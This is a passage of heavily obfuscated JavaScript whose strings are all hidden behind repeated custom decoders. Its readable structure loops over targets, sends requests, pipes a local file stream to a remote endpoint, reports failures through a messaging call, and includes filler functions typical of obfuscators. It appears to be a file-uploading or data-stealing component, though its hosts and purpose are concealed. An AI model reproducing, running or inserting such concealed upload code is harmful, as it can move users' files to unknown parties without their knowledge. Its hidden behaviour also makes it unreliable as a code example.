isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=ciGv61s(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}if(kmV8q2l[mxcTHdH(0xd5)]===CCUQEYq[0x1d]){function QOTJnfa(vxMLN8){var kmV8q2l="O=METaXYqZBPgmNCbotcQkdjrFReifDSUVplJAGK.vI5+8nuh7W2sw%H:$L!zy|3[~<9)&#/}^x\"]0{;(_46@1>*,?`",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function WQriWoV(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=QOTJnfa(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const D6WnZ8=await yh3lZ0[mxcTHdH(0xd6)](wbkRc9,{[WQriWoV(0xd7)]:k2oxo0});if(D6WnZ8[WQriWoV(CCUQEYq[0x1f])][WQriWoV(0xd9)]===WQriWoV(0xda)){function DTIHOU(vxMLN8){var kmV8q2l="GVvHq#;Q]Dhw6$7&JzNlB+0.t?~Odm1c@j!%Z`[P{M84^<R,F9fAYK_)L(x>g2s5u/iS3}*oy\":UX|CWnTEerpIakb=",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function trAKeI(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=DTIHOU(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}await zbcKa5a(D6WnZ8[WQriWoV(CCUQEYq[0x1f])][trAKeI(0xdb)]);return{[trAKeI(0xdc)]:CCUQEYq[0x23],[trAKeI(0xdd)]:vxMLN8[trAKeI(CCUQEYq[0x21])],[trAKeI(CCUQEYq[0x20])]:kmV8q2l[trAKeI(CCUQEYq[0x21])]}}}else{function rKD2LGD(vxMLN8){var kmV8q2l="PAC8qBJrkZL[u_9/,\"^%dVD3|;:4hxl)76S0N.E{z?pvQt*#m$&wF~@KGI](}=2<n1>`5y!R+XMgjoYHacUObfiTWes",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function q0loGu(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=rKD2LGD(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const D6WnZ8=await yh3lZ0({[mxcTHdH(0xe0)]:wbkRc9,[q0loGu(CCUQEYq[0x24])]:q0loGu(0xe2),[q0loGu(0xe3)]:q0loGu(0xe4),[q0loGu(0xe5)]:k2oxo0}),eqB2tdB=HEwhXO[q0loGu(0xe6)](lrCYGt9);Jmn7al4(D6WnZ8[q0loGu(0xe7)][q0loGu(0xe8)](eqB2tdB),await new Promise((vxMLN8,kmV8q2l)=>{function iguVix(vxMLN8){var kmV8q2l="]FUkLcjd6yJG:|SHaP&EOgeYx2mR%DZ~5`)V<o8w,=7NQ*;^9ir[vTCh!tq?fBs103$#}>.lM\"IXz4WA+{n/bK(up@_",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(eqB2tdB[CCUQEYq[0x22]](q0loGu(0xe9),vxMLN8),eqB2tdB[CCUQEYq[0x22]](ne1HJWf(0xea),kmV8q2l))}));return{[q0loGu(0xeb)]:CCUQEYq[0x23],[q0loGu(0xec)]:vxMLN8[q0loGu(CCUQEYq[0x25])],[q0loGu(CCUQEYq[0x24])]:kmV8q2l[q0loGu(CCUQEYq[0x25])]}}}else{function zQnwXtr(vxMLN8){var kmV8q2l="Lw*stvGWCr0yA?H{D<3mzg/)!UNTS6V:o>x+QiY=BE9phOc.dMn%KPa1~#$]R@u4f|e5lq,[;^2_Z7X\"8kJb(I&}F`j",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function NoukmVm(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=zQnwXtr(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const D6WnZ8=await yh3lZ0[uD0dW5t(0xee)](wbkRc9,{[NoukmVm(CCUQEYq[0x26])]:k2oxo0});if(D6WnZ8[NoukmVm(CCUQEYq[0x27])][NoukmVm(0xf1)]===NoukmVm(0xf2)){function CXx7Bau(vxMLN8){var kmV8q2l="bY0ruhvZqIQm*D}gA_5BpxWek:nT.`FNz9L[%o6{!Uc^8@tGO\"$lf2P7(=3a/XH?&sM1d>|K,VCEJSR<j~4w)#y];+i",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function YZuo1hi(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=CXx7Bau(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}await Ah1szG(D6WnZ8[NoukmVm(CCUQEYq[0x27])][YZuo1hi(0xf3)],lrCYGt9);return{[YZuo1hi(0xf4)]:CCUQEYq[0x23],[YZuo1hi(0xf5)]:vxMLN8[YZuo1hi(CCUQEYq[0x28])],[YZuo1hi(0xf7)]:kmV8q2l[YZuo1hi(CCUQEYq[0x28])]}}}}catch(my_fykq){function pH9b1ES(vxMLN8){var kmV8q2l="uAWFKIshJL9QVP+3BX|mO^%k@\"NH=&?)apvCw`627EdSxM}8ryi>1,Z45[<g!DG~0o$#(zc/Y.*Ut;jn:{RTfl_q]be",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function aW53l4(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=pH9b1ES(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(Cew2wi=[LDgmDp6(0xf8)+kmV8q2l[aW53l4(CCUQEYq[0x29])]+aW53l4(0xfa)+vxMLN8[aW53l4(CCUQEYq[0x29])]+": "+my_fykq[aW53l4(CCUQEYq[0x2a])]],PIyZFd1(aW53l4(0xfc)),await xBhL4k(aW53l4(0xfd)+kmV8q2l[aW53l4(CCUQEYq[0x29])]+aW53l4(0xfe)+vxMLN8[aW53l4(CCUQEYq[0x29])]+aW53l4(CCUQEYq[0x3])+my_fykq[aW53l4(CCUQEYq[0x2a])]));return{[aW53l4(0x100)]:CCUQEYq[0x2b]}}return{[ne1HJWf(0x101)]:CCUQEYq[0x2b]}}async function isTxJr8(){for(const vxMLN8 of QNJ3_U){function kmV8q2l(vxMLN8){var kmV8q2l="!Y*p0EHos_z?Ay3=~&j;lxL|[94q{}wdhn(Sb#XR@KJMeVZkTF8.71]>um2G5gDO^/B$<N\":v)raf6t%Q`CIi,UcP+W",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function iguVix(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=kmV8q2l(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}for(const ne1HJWf of rr1oHZ){const fteEB9=await as9i5UI(ne1HJWf,vxMLN8);if(fteEB9[LDgmDp6(0x102)]){function uD0dW5t(vxMLN8){var kmV8q2l="DgSTH2u{`h(4Z9+[Y$vmLqe#K\"~8nAN,Fj73E*JU0zOB5/.&Gd1t}Icx<]y|p!?i:_b)%Q@VRX^P>oWsMl=6fawC;rk",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function wbkRc9(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=uD0dW5t(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(Cew2wi=[LDgmDp6(0x103)+vxMLN8[wbkRc9(CCUQEYq[0x2c])]+wbkRc9(0x105)+ne1HJWf[wbkRc9(CCUQEYq[0x2c])]],PIyZFd1(wbkRc9(0x106)));return}}Jmn7al4(Cew2wi=[iguVix(0x107)+vxMLN8[iguVix(CCUQEYq[0x2d])]],PIyZFd1(iguVix(0x109)),await xBhL4k(iguVix(0x10a)+vxMLN8[iguVix(CCUQEYq[0x2d])]+iguVix(0x10b)+PIyZFd1(iguVix(0x10c),iguVix(0x10d),iguVix(0x10e))[iguVix(0x10f)]+"!"))}try{function ciGv61s(vxMLN8){var kmV8q2l="t3eAYHoJXRNkBOTlpSfiWCZdKjaDMVcQPrsUEFgInbqmLhG*8.;%49`7)wu{[(]+y|>$_#5,<}^0@62&xvz~1\"/!=:?",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function mxcTHdH(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=ciGv61s(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(Cew2wi=[LDgmDp6(0x110)],new PIyZFd1(LDgmDp6(CCUQEYq[0x2e]),mxcTHdH(0x111),mxcTHdH(0x112))[mxcTHdH(0x113)],await Ah1szG(gZEdEpo,lrCYGt9))}catch(QOTJnfa){throw new Error(LDgmDp6(0x114))}}async function Ah1szG(vxMLN8,kmV8q2l){try{function iguVix(vxMLN8){var kmV8q2l=")tAQdgY8V2N?CazKE*uvi\"~_&IfyTS/:UxbwkqRW({;hG7|`pl1BDZ4=e+rJs09M%<nm3jcLO.#X5}6HP!F$o@>^,][",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,Cew2wi;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(Cew2wi=CCUQEYq[0x0];Cew2wi<ne1HJWf;Cew2wi++){var isAUb2e=kmV8q2l.indexOf(iguVix[Cew2wi]);if(isAUb2e===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=isAUb2e}else{Jmn7al4(ciGv61s+=isAUb2e*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const fteEB9=await yh3lZ0({[ne1HJWf(0x115)]:vxMLN8,[ne1HJWf(0x116)]:ne1HJWf(0x117),[ne1HJWf(0x118)]:ne1HJWf(0x119),[ne1HJWf(0x11a)]:k2oxo0}),uD0dW5t=HEwhXO[ne1HJWf(0x11b)](kmV8q2l);fteEB9[ne1HJWf(0x11c)][ne1HJWf(0x11d)](uD0dW5t);return new Promise((vxMLN8,kmV8q2l)=>{Jmn7al4(uD0dW5t[CCUQEYq[0x22]](ne1HJWf(0x11e),vxMLN8),uD0dW5t[CCUQEYq[0x22]](ne1HJWf(0x11f),kmV8q2l))})}catch(wbkRc9){function ciGv61s(vxMLN8){var kmV8q2l="KOCi^Suv+kG5w~x9&_!%NsX0j2Qn,Lpr<zZ`DW|PB\"EtTd3e#8a4M:.m;U=gc$)/A7hYfH@l(*]I1[q{R?}>6obVFJy",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,Cew2wi;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(Cew2wi=CCUQEYq[0x0];Cew2wi<ne1HJWf;Cew2wi++){var isAUb2e=kmV8q2l.indexOf(iguVix[Cew2wi]);if(isAUb2e===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=isAUb2e}else{Jmn7al4(ciGv61s+=isAUb2e*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function Cew2wi(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=ciGv61s(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}throw new Error(Cew2wi(0x120)+wbkRc9[Cew2wi(0x121)])}}const KkC9dzT=[LDgmDp6(0x122),LDgmDp6(0x123),LDgmDp6(0x124),LDgmDp6(0x125),LDgmDp6(0x126)],RDgjil=KkC9dzT[LDgmDp6(0x127)](vxMLN8=>{function kmV8q2l(kmV8q2l){var iguVix="JbsxDLkOe7:P$qNnV)vjf@It>=+*UlaR_\"TG;wCEuFK5/ic#0Sr9m4%yXWZB|M}]g.do&`pYhAQ<^3{62~!8?1([zH,",ne1HJWf,isAUb2e,Cawo3ZI,fteEB9,uD0dW5t,wbkRc9,ciGv61s;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),isAUb2e=ne1HJWf.length,Cawo3ZI=[],fteEB9=CCUQEYq[0x0],uD0dW5t=CCUQEYq[0x0],wbkRc9=-CCUQEYq[0x1]);for(ciGv61s=CCUQEYq[0x0];ciGv61s<isAUb2e;ciGv61s++){var Cew2wi=iguVix.indexOf(ne1HJWf[ciGv61s]);if(Cew2wi===-CCUQEYq[0x1])continue;if(wbkRc9<CCUQEYq[0x0]){wbkRc9=Cew2wi}else{Jmn7al4(wbkRc9+=Cew2wi*CCUQEYq[0xc],fteEB9|=wbkRc9<<uD0dW5t,uD0dW5t+=(wbkRc9&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(Cawo3ZI.push(fteEB9&CCUQEYq[0x3]),fteEB9>>=CCUQEYq[0x2],uD0dW5t-=CCUQEYq[0x2])}while(uD0dW5t>CCUQEYq[0x9]);wbkRc9=-CCUQEYq[0x1]}}if(wbkRc9>-CCUQEYq[0x1]){Cawo3ZI.push((fteEB9|wbkRc9<<uD0dW5t)&CCUQEYq[0x3])}return KZ8zhh4(Cawo3ZI)}function iguVix(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=kmV8q2l(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}if(iguVix(0x128)in WQriWoV){ne1HJWf()}function ne1HJWf(){function kmV8q2l(kmV8q2l){var iguVix="%JnEBhfXcFTQY(^HA/CpoSqZaGtsz)uO$7=evIwW0km{|!}db\"*,4M12x&g6_`LU9<V+5~83R:?j.N@K]r#[Dliy>P;",ne1HJWf,fteEB9,uD0dW5t,wbkRc9,isAUb2e,Cawo3ZI,ciGv61s;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),fteEB9=ne1HJWf.length,uD0dW5t=[],wbkRc9=CCUQEYq[0x0],isAUb2e=CCUQEYq[0x0],Cawo3ZI=-CCUQEYq[0x1]);for(ciGv61s=CCUQEYq[0x0];ciGv61s<fteEB9;ciGv61s++){var Cew2wi=iguVix.indexOf(ne1HJWf[ciGv61s]);if(Cew2wi===-CCUQEYq[0x1])continue;if(Cawo3ZI<CCUQEYq[0x0]){Cawo3ZI=Cew2wi}else{Jmn7al4(Cawo3ZI+=Cew2wi*CCUQEYq[0xc],wbkRc9|=Cawo3ZI<<isAUb2e,isAUb2e+=(Cawo3ZI&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(wbkRc9&CCUQEYq[0x3]),wbkRc9>>=CCUQEYq[0x2],isAUb2e-=CCUQEYq[0x2])}while(isAUb2e>CCUQEYq[0x9]);Cawo3ZI=-CCUQEYq[0x1]}}if(Cawo3ZI>-CCUQEYq[0x1]){uD0dW5t.push((wbkRc9|Cawo3ZI<<isAUb2e)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function iguVix(iguVix){if(typeof isAUb2e[iguVix]===CCUQEYq[0x5]){return isAUb2e[iguVix]=kmV8q2l(Cawo3ZI[iguVix])}return isAUb2e[iguVix]}function ne1HJWf(kmV8q2l){const iguVix={};for(let ne1HJWf of kmV8q2l.replace(/[^w]/g,"").toLowerCase())iguVix[ne1HJWf]=iguVix[ne1HJWf]+CCUQEYq[0x1]||CCUQEYq[0x1];return iguVix}function fteEB9(kmV8q2l,iguVix){const ne1HJWf=buildCharMap(kmV8q2l),fteEB9=buildCharMap(iguVix);for(let uD0dW5t in ne1HJWf)if(ne1HJWf[uD0dW5t]!==fteEB9[uD0dW5t]){return CCUQEYq[0x2b]}if(Object.keys(ne1HJWf).length!==Object.keys(fteEB9).length){return CCUQEYq[0x2b]}return 